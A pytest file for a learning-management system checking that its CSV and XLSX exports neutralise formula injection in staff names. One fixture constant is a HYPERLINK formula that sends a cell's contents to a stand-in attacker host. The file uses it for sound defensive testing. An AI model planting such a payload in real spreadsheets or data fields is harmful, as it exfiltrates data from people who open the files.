"""Exports never carry a formula: a name set to ``=HYPERLINK(...)`` by an admin, a people CSV or the
HR API is text in the matrix CSV, the audit CSV and the matrix XLSX (issue 13, item 3)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from lms.competence import services as competence
from lms.competence.models import EvidenceKind
from lms.extensions import db
from lms.organisation.models import Person, Role, Unit
from tests.conftest import add_person

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klikk")'
NAMES = [EVIL, "+47 900 00 000", "-2+3", "@SUM(1)", "\tTab", "\rRetur", "#N/A"]


@pytest.fixture
def evil_unit(app, org):
    """The ward requires DHK-5; the nurse's name is a formula and six more people have names that
    begin with the other characters a spreadsheet reads as the start of a formula."""
    with app.app_context():
        competence.load_shipped()
        ward = db.session.get(Unit, org.ward.id)
        security = competence.competences_by_code(["DHK-5"])["DHK-5"]
        competence.add_requirement(security, ward, 2, validity_months=12, renewal_days=60)
        db.session.get(Person, org.nurse.id).name = EVIL
        for i, name in enumerate(NAMES[1:]):
            person = add_person("Rar", f"rar{i}@testvik.no", ward, Role.STAFF, "helsefagarbeider")
            person.name = name  # as stored, even where a form would have trimmed it
        competence.record_evidence(org.nurse.id, security, 2, EvidenceKind.SIGN_OFF)
        db.session.commit()
        return security.id


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_the_matrix_csv_quotes_every_cell_that_would_start_a_formula(app, org, evil_unit, client):
    client.sign_in(org.manager)
    rows = _csv_rows(client.get(f"/reports/units/{org.ward.id}/matrix.csv").data)

    names = [row[0] for row in rows[1:]]
    for name in NAMES[:-1]:
        assert "'" + name in names
    assert "#N/A" in names
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    nurse = next(row for row in rows if row[0] == "'" + EVIL)
    assert nurse[1:] == ["Sykepleier", "Oppfylt (nivå 2 av 2)"]


def test_the_audit_csv_quotes_every_cell_that_would_start_a_formula(app, org, evil_unit, client):
    client.sign_in(org.manager)
    response = client.get(f"/reports/units/{org.ward.id}/audit?competence={evil_unit}&format=csv")
    rows = _csv_rows(response.data)

    nurse = next(row for row in rows if row[0] == "'" + EVIL)
    assert nurse[1:5] == ["Sykepleier", "Oppfylt", "2", "2"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_the_matrix_xlsx_has_no_formula_and_shows_the_names_as_written(app, org, evil_unit, client):
    client.sign_in(org.manager)
    data = client.get(f"/reports/units/{org.ward.id}/matrix.xlsx").data
    book = load_workbook(io.BytesIO(data))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells and all(cell.data_type != "f" for cell in cells)
    assert all(cell.data_type == "s" for cell in cells if isinstance(cell.value, str))
    names = {row[0].value: row[0].data_type for row in book["Kompetanse"].iter_rows(min_row=2)}
    assert names[EVIL] == "s"
    assert {"+47 900 00 000", "-2+3", "@SUM(1)", "#N/A"} <= set(names)
    counts = list(book["Oppsummering"].iter_rows(min_row=2, values_only=True))
    assert counts[0][1:] == (1, 0, 0, len(NAMES))
